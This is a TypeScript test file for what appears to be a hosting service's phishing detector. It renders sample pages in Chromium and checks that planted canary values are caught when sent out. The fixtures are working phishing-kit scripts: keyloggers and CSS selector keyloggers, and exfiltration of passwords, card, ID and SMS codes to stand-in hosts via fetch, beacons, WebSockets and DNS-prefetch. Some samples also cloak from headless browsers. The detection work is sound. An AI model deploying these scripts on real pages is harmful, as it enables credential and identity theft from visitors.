/**
 * The render's visitor and profiles (docs/render.md "The visitor", "As a visitor arrives") in
 * Debian's real Chromium: canaries typed into the page and found in what it sends by fetch, XHR,
 * sendBeacon, WebSocket, an image beacon and a form, plain and encoded; a page that cloaks by time
 * zone and webdriver; a redirect after 30 s of fake time; a page whose load never comes; storage
 * and cookies that work as on the live site; emoji drawn in colour.
 */
import { Readable } from 'node:stream';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RenderBrowser } from '../src/render/browser.js';
import { type CanaryValues, drawCanaries, PASSWORD_ALPHABET } from '../src/render/canaries.js';
import { RENDER_FILE_MAX_BYTES, renderPage } from '../src/render/render-page.js';
import type { SiteRouting } from '../src/serve/site-request.js';
import { compileSiteRules } from '../src/serve/site-rules.js';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
let browser: RenderBrowser;
let next = 1;

beforeAll(() => {
  browser = new RenderBrowser(CHROMIUM, { pagesBeforeRestart: () => 50 });
});
afterAll(() => browser.close());

const page = (body: string, script = '') =>
  `<!doctype html><html><head><meta charset="utf-8"><title>测试</title></head><body>${body}<script>${script}</script></body></html>`;

/** A site's address on the default install, as a visitor on localhost reaches it. */
const localAddress = () => `http://p${next++}.localhost:3001/`;

async function render(
  files: Record<string, string>,
  loadTimeoutMs = 30_000,
  routing: SiteRouting | null = null,
  extra: { address?: string; canaries?: CanaryValues } = {},
) {
  const map = new Map(
    Object.entries(files).map(([path, text]) => {
      const body = Buffer.from(text);
      const mime = path.endsWith('.html') ? 'text/html; charset=utf-8' : 'text/javascript';
      return [path, { path, size: body.length, mime_type: mime, sha256: path, body }] as const;
    }),
  );
  return renderPage(
    await browser.get(),
    {
      address: extra.address ?? localAddress(),
      entryFile: 'index.html',
      files: map,
      routing,
      read: async (f) => Readable.from([(f as unknown as { body: Buffer }).body]),
    },
    { allowPublicAssets: false, loadTimeoutMs, ...(extra.canaries ? { canaries: extra.canaries } : {}) },
  );
}

const LOGIN =
  '<form id="f"><input name="username" placeholder="账号"><input type="password" name="pwd" placeholder="密码">' +
  '<input name="card" placeholder="银行卡号"><input name="idno" placeholder="身份证号"><input type="tel" name="mobile" placeholder="手机号">' +
  '<input name="sms" placeholder="短信验证码"><button type="submit">登录</button></form>';

describe("a site's own routing in the render", () => {
  it('follows its redirects within the site, records one to another host, and stops a loop', async () => {
    const rules = compileSiteRules({
      redirects: [
        '/loop.png /loop2.png 302',
        '/loop2.png /loop.png 302',
        '/app.js /js/real.js 301',
        '/out.js https://collect.redirect-test.example/x.js 302',
      ].join('\n'),
    });
    const { observations: obs } = await render(
      {
        'index.html': page(
          '<h1>跳转</h1><img src="loop.png"><script src="app.js"></script><script src="out.js"></script>',
        ),
        'js/real.js': 'document.title = "已跳转";',
      },
      5_000,
      { rules, spaFallback: false, cleanUrls: false },
    );
    // The loop gives up (as a browser would); the redirect to another host is that host's request.
    expect(obs.externalRequests).toEqual([
      expect.objectContaining({ url: 'https://collect.redirect-test.example/x.js', allowed: false }),
    ]);
    expect(obs.missing).toEqual([]);
    expect(obs.consoleErrors).toEqual([]);
  });
});

describe("the site's files in the render's memory", () => {
  it('reads each file once however often the page asks, and none over the limit', async () => {
    const reads = new Map<string, number>();
    const file = (path: string, text: string, size = Buffer.byteLength(text)) => {
      const body = Buffer.from(text);
      const mime = path.endsWith('.html') ? 'text/html; charset=utf-8' : 'text/plain; charset=utf-8';
      return [path, { path, size, mime_type: mime, sha256: `sha-${path}`, body }] as const;
    };
    const script = `Promise.all([...Array(6)].map((_, i) => fetch('mid.txt?n=' + i).then((r) => r.text()))
      .concat([...Array(6)].map((_, i) => fetch('big.txt?n=' + i).then((r) => r.text()))))
      .then((texts) => { document.body.dataset.lengths = texts.map((t) => t.length).join(','); });`;
    const files = new Map([
      file('index.html', page('<p>读取</p>', script)),
      file('mid.txt', '中等文件'),
      // Declared past the per-file limit: answered empty, never read into memory.
      file('big.txt', 'x', RENDER_FILE_MAX_BYTES + 1),
    ]);
    await renderPage(
      await browser.get(),
      {
        address: localAddress(),
        entryFile: 'index.html',
        files,
        routing: null,
        read: async (f) => {
          reads.set(f.path, (reads.get(f.path) ?? 0) + 1);
          return Readable.from([(f as unknown as { body: Buffer }).body]);
        },
      },
      { allowPublicAssets: false, loadTimeoutMs: 30_000 },
    );
    expect(reads.get('mid.txt')).toBe(1);
    expect(reads.get('big.txt')).toBeUndefined();
  });
});

describe('a client-side router in the render', () => {
  // A router's usual start: it listens for popstate and draws the page of location.pathname.
  const router = (start: string) =>
    `addEventListener('popstate', () => {}); ${start}; document.body.append(location.pathname + location.hash);`;

  it('tells a router that changes the path from one that routes by the hash, and from a page without one', async () => {
    const history = await render({
      'index.html': page('<a href="/about">关于</a>', router("history.replaceState({}, '')")),
    });
    expect(history.observations.historyRouting).toBe(true);
    const hash = await render({
      'index.html': page('<a href="#/about">关于</a>', router("location.hash = '#/'")),
    });
    expect(hash.observations.historyRouting).toBe(false);
    const hashLinks = await render({ 'index.html': page('<a href="#/about">关于</a>', router('')) });
    expect(hashLinks.observations.historyRouting).toBe(false);
    const plain = await render({
      'index.html': page('<a href="about.html">关于</a>', "history.replaceState({}, '')"),
    });
    expect(plain.observations.historyRouting).toBe(false);
  });
});

describe('the visitor', () => {
  it('finds canaries sent by fetch, XHR, sendBeacon, WebSocket and an image beacon, plain and encoded', async () => {
    const script = `
      const v = (n) => document.querySelector('[name=' + n + ']').value;
      document.getElementById('f').addEventListener('submit', (e) => {
        e.preventDefault();
        fetch('https://fetch.exfil.example/c', { method: 'POST', body: JSON.stringify({ p: v('pwd') }) });
        const x = new XMLHttpRequest(); x.open('POST', 'https://xhr.exfil.example/x'); x.send('card=' + encodeURIComponent(v('card')));
        navigator.sendBeacon('https://beacon.exfil.example/b', btoa(JSON.stringify({ id: v('idno') })));
        new Image().src = 'https://img.exfil.example/i.gif?d=' + [...v('mobile')].map((c) => c.charCodeAt(0).toString(16)).join('');
        const ws = new WebSocket('wss://ws.exfil.example/s'); ws.onopen = () => ws.send(JSON.stringify({ code: v('sms') }));
        fetch('/api/login', { method: 'POST', body: v('username') });
      });`;
    const { observations: obs } = await render({ 'index.html': page(LOGIN, script) });
    const leak = (kind: string) => obs.leaks.find((l) => l.kind === kind);
    expect(leak('password')).toMatchObject({
      host: 'fetch.exfil.example',
      field: 'pwd',
      external: true,
      encoding: 'plain',
    });
    expect(leak('card')).toMatchObject({ host: 'xhr.exfil.example', field: 'card', external: true });
    expect(leak('id_number')).toMatchObject({
      host: 'beacon.exfil.example',
      encoding: 'base64',
      via: 'ping',
    });
    expect(leak('phone')).toMatchObject({ host: 'img.exfil.example', encoding: 'hex', via: 'image' });
    expect(leak('sms_code')).toMatchObject({ host: 'ws.exfil.example', via: 'websocket' });
    // The site's own address is where a login demo sends its form: recorded, not external.
    expect(leak('username')).toMatchObject({ external: false, field: 'username' });
    // Nothing on the page tells a phone from a desktop: one pass.
    expect(obs.profiles).toEqual(['desktop']);
    expect(obs.phoneBecause).toBeNull();
  });

  it('finds what a page sends as the visitor leaves it (pagehide, visibilitychange)', async () => {
    const script = `
      const kept = {};
      document.addEventListener('input', (e) => { kept[e.target.name] = e.target.value; });
      document.getElementById('f').addEventListener('submit', (e) => e.preventDefault());
      const leave = () => navigator.sendBeacon('https://leave.exfil.example/l', JSON.stringify(kept));
      addEventListener('pagehide', leave);
      document.addEventListener('visibilitychange', () => { if (document.visibilityState === 'hidden') leave(); });`;
    const { observations: obs } = await render({ 'index.html': page(LOGIN, script) });
    expect(obs.leaks.find((l) => l.kind === 'password')).toMatchObject({ host: 'leave.exfil.example' });
  });

  it('finds a key-by-key logger and a form posted to another host', async () => {
    const script = `document.addEventListener('keydown', (e) => { new Image().src = 'https://keys.exfil.example/k?c=' + encodeURIComponent(e.key); });`;
    const form =
      '<form action="https://post.exfil.example/login.php" method="post"><input type="password" name="pass"><input type="submit" value="确定"></form>';
    const { observations: obs } = await render({ 'index.html': page(form, script) });
    expect(obs.leaks).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ kind: 'password', host: 'keys.exfil.example', encoding: 'keys' }),
        expect.objectContaining({
          kind: 'password',
          host: 'post.exfil.example',
          via: 'document',
          field: 'pass',
        }),
      ]),
    );
  });

  it("finds a logger's buffer flushed before a value is whole, and keys pressed outside any field", async () => {
    // The held-out kit's shape: the buffer goes every 11 keys and is emptied, so no value leaves whole.
    const script = `let b = ''; document.addEventListener('keydown', (e) => { b += e.key;
      if (b.length > 10) { new Image().src = 'https://batch.exfil.example/k?k=' + encodeURIComponent(b); b = ''; } });`;
    const { observations: obs } = await render({
      'index.html': page('<input placeholder="随便打字">', script),
    });
    expect(obs.leaks).toEqual(
      expect.arrayContaining([
        // Its batches joined host by host: 'canarytext7', then '731canaryke'...
        expect.objectContaining({ kind: 'text', host: 'batch.exfil.example', encoding: 'keys' }),
        expect.objectContaining({ kind: 'keystrokes', host: 'batch.exfil.example', field: '页面空白处' }),
      ]),
    );
  });

  it('chooses from lists, ticks checkboxes and picks radio buttons before it submits', async () => {
    // The kit sends only when a bank is chosen, the terms are accepted and a card type is picked.
    const form = `<form id="f"><select name="bank"><option value="">请选择银行</option><option value="icbc">工商银行</option></select>
      <label><input type="radio" name="t" value="debit">借记卡</label><label><input type="radio" name="t" value="credit">信用卡</label>
      <input type="password" name="pwd" placeholder="密码">
      <label><input type="checkbox" id="ok" style="display:none"><span>我已阅读并同意协议</span></label>
      <button type="submit">提交</button></form>`;
    const script = `document.getElementById('f').addEventListener('submit', (e) => { e.preventDefault();
      const f = e.target; if (!f.bank.value || !document.getElementById('ok').checked || !f.t.value) { alert('请完整填写'); return; }
      fetch('https://choice.exfil.example/c', { method: 'POST', body: f.bank.value + '|' + f.t.value + '|' + f.pwd.value }); });`;
    const { observations: obs } = await render({ 'index.html': page(form, script) });
    expect(obs.leaks).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ kind: 'password', host: 'choice.exfil.example', field: 'pwd' }),
      ]),
    );
    expect(obs.dialogs).toEqual([]);
  });

  it("acts inside frames of the site's own origin: a page and a srcdoc frame", async () => {
    const login = page(
      '<form id="f"><input type="password" name="pw"><button>登录</button></form>',
      `document.getElementById('f').onsubmit = (e) => { e.preventDefault(); navigator.sendBeacon('https://frame.exfil.example/b', e.target.pw.value); };`,
    );
    const srcdoc = page(
      '<input name="idno" placeholder="身份证号" id="i">',
      `document.getElementById('i').addEventListener('change', (e) => { fetch('https://srcdoc.exfil.example/s?v=' + e.target.value); });`,
    ).replace(/"/g, '&quot;');
    const { observations: obs } = await render({
      'index.html': page(
        `<h1>学生服务</h1><iframe src="login.html"></iframe><iframe srcdoc="${srcdoc}"></iframe>`,
      ),
      'login.html': login,
    });
    expect(obs.leaks).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ kind: 'password', host: 'frame.exfil.example', via: 'ping' }),
        expect.objectContaining({ kind: 'id_number', host: 'srcdoc.exfil.example' }),
      ]),
    );
  });

  it('arrives as a visitor in China: a page cloaking by time zone and webdriver shows its real face', async () => {
    const script = `
      const real = Intl.DateTimeFormat().resolvedOptions().timeZone === 'Asia/Shanghai' && navigator.webdriver === false
        && !/Headless/.test(navigator.userAgent) && navigator.languages.length > 1 && navigator.languages[0] === 'zh-CN';
      if (real) fetch('https://cloaked.exfil.example/hit', { method: 'POST', body: 'x' });`;
    const { observations: obs } = await render({ 'index.html': page('<h1>你好</h1>', script) });
    expect(obs.externalRequests.map((r) => r.host)).toContain('cloaked.exfil.example');
  });

  it('lets time pass: a redirect after 30 s of fake time is seen', async () => {
    const script = `setTimeout(() => { location.href = 'https://late.redirect.example/landing'; }, 30000);`;
    const started = Date.now();
    const { observations: obs } = await render({ 'index.html': page('<h1>稍等</h1>', script) });
    expect(obs.navigations).toEqual([
      expect.objectContaining({ host: 'late.redirect.example', external: true, byVisitor: false }),
    ]);
    // Fake time: the render did not wait 30 real seconds.
    expect(Date.now() - started).toBeLessThan(30_000);
  });

  it('runs the page as the live site: storage and cookies work, no script error', async () => {
    const script = `localStorage.setItem('a', '1'); sessionStorage.setItem('b', '2'); document.cookie = 'c=3';
      document.querySelector('h1').textContent = localStorage.getItem('a') + document.cookie;`;
    const { observations: obs } = await render({ 'index.html': page('<h1>存储</h1>', script) });
    expect(obs.consoleErrors).toEqual([]);
  });

  it('pictures a page whose load never comes at the deadline, with what it did', async () => {
    // The page holds the renderer past the deadline, then sends: the picture and the request come anyway.
    const script = `const t = performance.now(); while (performance.now() - t < 3500) {}
      document.body.style.background = '#c00'; fetch('https://after.stall.example/x', { method: 'POST', body: 'y' });`;
    const result = await render({ 'index.html': page('<h1>卡住</h1>', script) }, 2_000);
    expect(result.observations.loadTimedOut).toBe(true);
    expect(result.screenshot.length).toBeGreaterThan(0);
    expect(result.observations.externalRequests.map((r) => r.host)).toContain('after.stall.example');
  });

  it('draws emoji in colour, not as boxes', async () => {
    const { screenshot } = await render({
      'index.html': page('<p style="font-size:200px;margin:0;line-height:1">😀</p>'),
    });
    const { data, info } = await sharp(screenshot)
      .extract({ left: 0, top: 0, width: 300, height: 300 })
      .raw()
      .toBuffer({ resolveWithObject: true });
    // A colour glyph has saturated pixels (the yellow face); a missing one is a grey box or nothing.
    let coloured = 0;
    for (let i = 0; i < data.length; i += info.channels) {
      const [r = 0, g = 0, b = 0] = [data[i], data[i + 1], data[i + 2]];
      if (Math.max(r, g, b) - Math.min(r, g, b) > 80) coloured++;
    }
    expect(coloured).toBeGreaterThan(1000);
  });

  it('canaries are what their fields expect', () => {
    const canaries = drawCanaries();
    expect(canaries.card).toMatch(/^\d{16}$/);
    expect(canaries.id_number).toMatch(/^\d{17}[\dX]$/);
  });
});

describe('where the page runs, and what it is given', () => {
  // What a cloaking kit reads to tell a review from a visitor: where it runs, and what it is typed.
  const where = `fetch('https://where.example/w?' + encodeURIComponent(location.href + '|' + isSecureContext));`;

  it("opens the page at the live site's own address", async () => {
    const { observations: obs } = await render({ 'index.html': page('<h1>博客</h1>', where) }, 30_000, null, {
      address: 'http://zhangsan-blog.localhost:3001/',
    });
    expect(obs.externalRequests.map((r) => decodeURIComponent(r.url))).toContain(
      'https://where.example/w?http://zhangsan-blog.localhost:3001/|true',
    );
  });

  it('opens a site under its path on a shared host, where its root-absolute files load as for visitors', async () => {
    // By IP address the default install serves sites under /sites/{key}/ on the sites port; a
    // root-absolute script comes through the sites host's rescue (serve/root-rescue.ts).
    const { observations: obs } = await render(
      {
        'index.html': page(
          '<h1>路径</h1><script src="/assets/app.js"></script><script src="/gone.js"></script>',
        ),
        'assets/app.js': where,
      },
      30_000,
      null,
      { address: 'http://192.168.1.5:3001/sites/blog/' },
    );
    expect(obs.externalRequests.map((r) => decodeURIComponent(r.url))).toContain(
      'https://where.example/w?http://192.168.1.5:3001/sites/blog/|false',
    );
    // What the site lacks is named by its own path, as its files are.
    expect(obs.missing).toEqual(['/gone.js']);
  });

  it('types values of its own in each render, and finds them sent', async () => {
    const form =
      '<form id="f"><input type="password" name="pw" placeholder="密码"><button>登录</button></form>';
    const steal = `document.getElementById('f').onsubmit = (e) => { e.preventDefault();
      fetch('https://steal.example/s?p=' + encodeURIComponent(e.target.pw.value)); };`;
    const sent: string[] = [];
    for (let i = 0; i < 2; i++) {
      const { observations: obs } = await render({ 'index.html': page(form, steal) });
      const leak = obs.leaks.find((l) => l.kind === 'password' && l.host === 'steal.example');
      expect(leak).toBeDefined();
      sent.push(leak?.url ?? '');
    }
    // A kit that recognised the value one render typed would not recognise the next one's.
    expect(sent[0]).not.toBe(sent[1]);
  });
});

describe('pages that hide from a render, or ask in steps', () => {
  const form =
    '<form id="f"><input name="u" placeholder="账号"><input type="password" name="p" placeholder="密码"><button>登录</button></form>';

  it('is not told by a global, by the mouse or by the pace of the keys', async () => {
    // An outside review's kit: it sends only when nothing names the render, the mouse moved a few
    // times and the keys came at a person's pace, as a visitor's browser has them.
    const script = `let moves = 0; addEventListener('mousemove', () => moves++);
      const gaps = []; let last = 0;
      addEventListener('keydown', (e) => { if (last) gaps.push(e.timeStamp - last); last = e.timeStamp; });
      document.getElementById('f').onsubmit = (e) => { e.preventDefault();
        const marked = ['__sitehallRouter', '__sitehallKeys', '__sitehallHint'].some((k) => k in window);
        const pace = gaps.reduce((a, b) => a + b, 0) / Math.max(1, gaps.length);
        if (marked || moves < 3 || pace < 25) return alert('用户名或密码错误');
        fetch('https://collect.cloak.example/c', { method: 'POST', body: JSON.stringify({ u: e.target.u.value, p: e.target.p.value }) }); };`;
    const { observations: obs } = await render({ 'index.html': page(form, script) });
    expect(obs.dialogs).toEqual([]);
    expect(obs.leaks).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ kind: 'password', host: 'collect.cloak.example', external: true }),
      ]),
    );
  });

  it("is not told by the render's wrappers, its clock or a name it leaves", async () => {
    // A kit that looks as anti-bot scripts do: a method or getter whose text is not the browser's
    // own, whose name, length or prototype differs, a method on an object that no browser defines
    // there, or a global no browser has (Playwright's clock left window.__pwClock).
    const script = `const nativeText = (f) => typeof f === 'function' && /^function [\\w$ ]*\\(\\) \\{\\s*\\[native code\\]\\s*\\}$/.test(Function.prototype.toString.call(f));
      const tells = [];
      const need = (what, ok) => { if (!ok) tells.push(what); };
      const getter = (o, p) => (Object.getOwnPropertyDescriptor(o, p) || {}).get;
      const methods = { setTimeout, setInterval, clearTimeout, clearInterval, Date, now: Date.now, perfNow: performance.now,
        addEventListener: EventTarget.prototype.addEventListener, toString: Function.prototype.toString,
        query: Permissions.prototype.query, createEvent: Document.prototype.createEvent, matchMedia,
        geolocation: Geolocation.prototype.getCurrentPosition, requestPermission: Notification.requestPermission,
        webdriver: getter(Navigator.prototype, 'webdriver'), userAgent: getter(Navigator.prototype, 'userAgent'),
        innerWidth: getter(window, 'innerWidth'), width: getter(Screen.prototype, 'width'),
        onkeydown: (Object.getOwnPropertyDescriptor(HTMLElement.prototype, 'onkeydown') || {}).set,
        WebSocket, send: WebSocket.prototype.send, wsUrl: getter(WebSocket.prototype, 'url'), outerWidth: getter(window, 'outerWidth') };
      for (const [k, f] of Object.entries(methods)) need(k, nativeText(f) && (k === 'Date' || k === 'WebSocket' || !('prototype' in f)));
      need('names', setTimeout.name === 'setTimeout' && EventTarget.prototype.addEventListener.name === 'addEventListener');
      need('lengths', EventTarget.prototype.addEventListener.length === 2 && setTimeout.length === 1 && Date.length === 7);
      need('Date.prototype', Date.prototype.constructor === Date && new Date() instanceof Date && typeof Date() === 'string');
      need('own methods', !Object.prototype.hasOwnProperty.call(navigator.geolocation, 'getCurrentPosition'));
      need('globals:' + Object.getOwnPropertyNames(window).filter((k) => /^__|pwClock|playwright|sitehall/i.test(k)).join('+'), !Object.getOwnPropertyNames(window).some((k) => /^__|pwClock|playwright|sitehall/i.test(k)));
      need('toString of toString', nativeText(Function.prototype.toString.toString));
      need('window', navigator.maxTouchPoints > 0 || (outerWidth > innerWidth && outerHeight > innerHeight && screen.width > outerWidth));
      need('WebSocket', WebSocket.length === 1 && new WebSocket('wss://ws.mask.example/') instanceof WebSocket);
      document.getElementById('f').onsubmit = (e) => { e.preventDefault();
        if (tells.length) return fetch('https://told.mask.example/?' + tells.join(','));
        fetch('https://collect.mask.example/c', { method: 'POST', body: JSON.stringify({ u: e.target.u.value, p: e.target.p.value }) }); };`;
    const { observations: obs } = await render({ 'index.html': page(form, script) });
    expect(obs.externalRequests.map((r) => r.url).filter((u) => u.includes('told.'))).toEqual([]);
    expect(obs.leaks).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ kind: 'password', host: 'collect.mask.example', external: true }),
      ]),
    );
  });

  it("keeps a page's timers and clock working as a browser's: order, intervals, clearing, Date", async () => {
    // The render's own clock (stealth.ts) under a page that leans on it; the jumps move Date and
    // performance.now alike and fire what they pass, in order.
    const script = `const log = [];
      const t0 = Date.now(), p0 = performance.now();
      setTimeout(() => log.push('b'), 20000);
      setTimeout(() => log.push('a'), 10000);
      const cleared = setTimeout(() => log.push('never'), 5000); clearTimeout(cleared);
      let ticks = 0; const iv = setInterval(() => { if (++ticks === 3) clearInterval(iv); }, 1);
      setTimeout((x, y) => log.push(x + y), 0, 'c', 'd');
      setTimeout(() => {
        const jumped = Date.now() - t0, pj = performance.now() - p0;
        fetch('https://clock.example/?' + [log.join(''), ticks, jumped >= 29000 ? 'date' : 'nodate:' + jumped,
          Math.abs(jumped - pj) < 2000 ? 'perf' : 'noperf:' + pj, new Date().getTime() >= t0 + 29000 ? 'new' : 'nonew'].join('.'));
      }, 29000);`;
    const { observations: obs } = await render({ 'index.html': page('<p>时钟</p>', script) });
    expect(obs.externalRequests.map((r) => r.url).find((u) => u.includes('clock.example'))).toMatch(
      /\?cdab\.3\.date\.perf\.new$/,
    );
  });

  it('fills the fields a button brings: a login that asks the password after 下一步', async () => {
    const first =
      '<form id="f"><input name="u" placeholder="账号"><button type="button" id="next">下一步</button></form>';
    const script = `document.getElementById('next').onclick = () => {
        document.getElementById('f').insertAdjacentHTML('beforeend', '<input type="password" name="p" placeholder="密码"><button>登录</button>');
        document.getElementById('next').remove(); };
      document.getElementById('f').onsubmit = (e) => { e.preventDefault();
        if (!e.target.p || !e.target.p.value) return;
        fetch('https://collect.steps.example/c', { method: 'POST', body: JSON.stringify({ u: e.target.u.value, p: e.target.p.value }) }); };`;
    const { observations: obs } = await render({ 'index.html': page(first, script) });
    expect(obs.leaks).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ kind: 'password', host: 'collect.steps.example', external: true }),
      ]),
    );
  });

  it("finds what a form sends to another host through the site's own redirect", async () => {
    // The form posts to the site's own path; its _redirects passes the request on (307 keeps the body).
    const rules = compileSiteRules({ redirects: '/login.html https://collect.redirect.example/c 307!' });
    const { observations: obs } = await render(
      {
        'index.html': page(form.replace('<form id="f">', '<form id="f" action="login.html" method="post">')),
        'login.html': page('<p>登录中</p>'),
      },
      30_000,
      { rules, spaFallback: false, cleanUrls: false },
    );
    expect(obs.leaks).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ kind: 'password', host: 'collect.redirect.example', external: true }),
      ]),
    );
  });
});

describe('hidden channels', () => {
  it('reads what DNS-prefetch and preconnect links carry in their host names', async () => {
    const form =
      '<form id="f"><input type="tel" name="m" placeholder="手机号"><input type="password" name="p"><button>提交</button></form>';
    // Plain labels (a DNS name drops the "!" and the case), and hex in a label.
    const script = `document.getElementById('f').onsubmit = (e) => { e.preventDefault();
      const hex = (s) => [...s].map((c) => c.charCodeAt(0).toString(16).padStart(2, '0')).join('');
      const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//' + e.target.m.value + '.' + e.target.p.value.replace(/[^a-z0-9]/gi, '') + '.dns.exfil-example.top';
      document.head.appendChild(l); l.remove();
      const c = document.createElement('link'); c.rel = 'preconnect'; c.href = 'https://' + hex(e.target.p.value) + '.pc.exfil-example.top'; document.head.appendChild(c); };`;
    const { observations: obs } = await render({ 'index.html': page(form, script) });
    expect(obs.leaks).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ kind: 'phone', via: 'dns-prefetch', external: true }),
        expect.objectContaining({ kind: 'password', via: 'dns-prefetch' }),
        expect.objectContaining({ kind: 'password', via: 'preconnect', encoding: 'hex' }),
      ]),
    );
  });

  it('finds a CSS attribute-selector keylogger', async () => {
    // The field mirrors its value into the attribute (as some frameworks do); the stylesheet asks
    // one address per last character typed.
    // Every character a drawn password can hold: the render's password is its own.
    const chars = [...PASSWORD_ALPHABET];
    const css = chars
      .map(
        (c) =>
          `input[name="pwd"][value$="${c === '"' || c === '\\' ? `\\${c}` : c}"] { background-image: url("https://css.exfil.example/k/${encodeURIComponent(c)}"); }`,
      )
      .join('\n');
    const { observations: obs } = await render({
      'index.html': page(
        `<style>${css}</style><input type="password" name="pwd" value="">`,
        `document.querySelector('input').addEventListener('input', (e) => e.target.setAttribute('value', e.target.value));`,
      ),
    });
    expect(obs.leaks).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          kind: 'password',
          host: 'css.exfil.example',
          via: 'css',
          encoding: 'keys',
        }),
      ]),
    );
  });

  it("keeps the render's bindings from the page, and bounds the hints it reads", async () => {
    // Values the page knows beforehand, so its late hint carries one.
    const canaries = drawCanaries();
    // A page that tries the bindings itself finds none; one that adds 300 hints has 200 read.
    const script = `document.title = [typeof window.__sitehallHint, typeof window.__sitehallDevice, typeof window.__sitehallPermission, typeof window.__sitehallKeys, typeof window.__sitehallRouter].join(',');
      for (let i = 0; i < 300; i++) { const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//h' + i + '.x.top'; document.head.appendChild(l); }
      const late = document.createElement('link'); late.rel = 'preconnect'; late.href = 'https://${canaries.username}.late.top'; document.head.appendChild(late);
      fetch('https://title.example/t?' + document.title, { method: 'POST', body: 'x' });`;
    const { observations: obs } = await render(
      { 'index.html': page('<h1>循环</h1>', script) },
      30_000,
      null,
      {
        canaries,
      },
    );
    expect(obs.externalRequests.map((r) => r.url)).toContain(
      'https://title.example/t?undefined,undefined,undefined,undefined,undefined',
    );
    // Past 200 hints per pass nothing more is read: the late canary is not there.
    expect(obs.leaks).toEqual([]);
    expect(obs.profiles).toEqual(['desktop']);
  });

  it('sees an ordinary DNS-prefetch to a CDN as nothing', async () => {
    const { observations: obs } = await render({
      'index.html': page(
        '<link rel="dns-prefetch" href="//cdn.jsdelivr.net"><link rel="preconnect" href="https://fonts.googleapis.com"><input type="password" name="p">',
      ),
    });
    expect(obs.leaks.filter((l) => l.external)).toEqual([]);
  });
});

describe('the phone pass', () => {
  it('opens a page as a phone only when it can tell a phone from a desktop', async () => {
    // Read through built names (no word of it in the files): the property's getter sees it.
    const cloak = `const k = ['user', 'Agent'].join(''); if (new RegExp(['Andr', 'oid'].join('')).test(navigator[k]))
      fetch('https://phone.exfil.example/p', { method: 'POST', body: 'x' });`;
    const cloaked = await render({ 'index.html': page('<h1>建设中</h1>', cloak) });
    expect(cloaked.observations.profiles).toEqual(['desktop', 'phone']);
    expect(cloaked.observations.phoneBecause).toBe('script:userAgent');
    expect(cloaked.observations.externalRequests.map((r) => r.host)).toContain('phone.exfil.example');

    // A form shown to narrow screens only: the desktop visitor sees controls it can't reach.
    const narrow = `<style>#f { display: none } @media (max-width: 600px) { #f { display: block } }</style>
      <form id="f"><input type="password" name="pw"><button>登录</button></form>`;
    const send = `document.getElementById('f').onsubmit = (e) => { e.preventDefault(); fetch('https://narrow.exfil.example/n', { method: 'POST', body: e.target.pw.value }); };`;
    const css = await render({
      'index.html': page(narrow, send).replace(
        '<head>',
        '<head><meta name="viewport" content="width=device-width, initial-scale=1">',
      ),
    });
    expect(css.observations.phoneBecause).toBe('hidden controls');
    expect(css.observations.leaks).toEqual([
      expect.objectContaining({ kind: 'password', host: 'narrow.exfil.example', profile: 'phone' }),
    ]);

    // The same form inside a frame of the site's own: found there too.
    const framed = await render({
      'index.html': page('<h1>欢迎</h1><iframe src="login.html" style="border:0;width:100%"></iframe>'),
      'login.html': page(narrow, send),
    });
    expect(framed.observations.phoneBecause).toBe('hidden controls');
    expect(framed.observations.profiles).toEqual(['desktop', 'phone']);

    const plain = await render({
      'index.html': page('<h1>你好</h1><p>一段文字</p>', "document.title = '好';"),
    });
    expect(plain.observations.profiles).toEqual(['desktop']);
  });
});
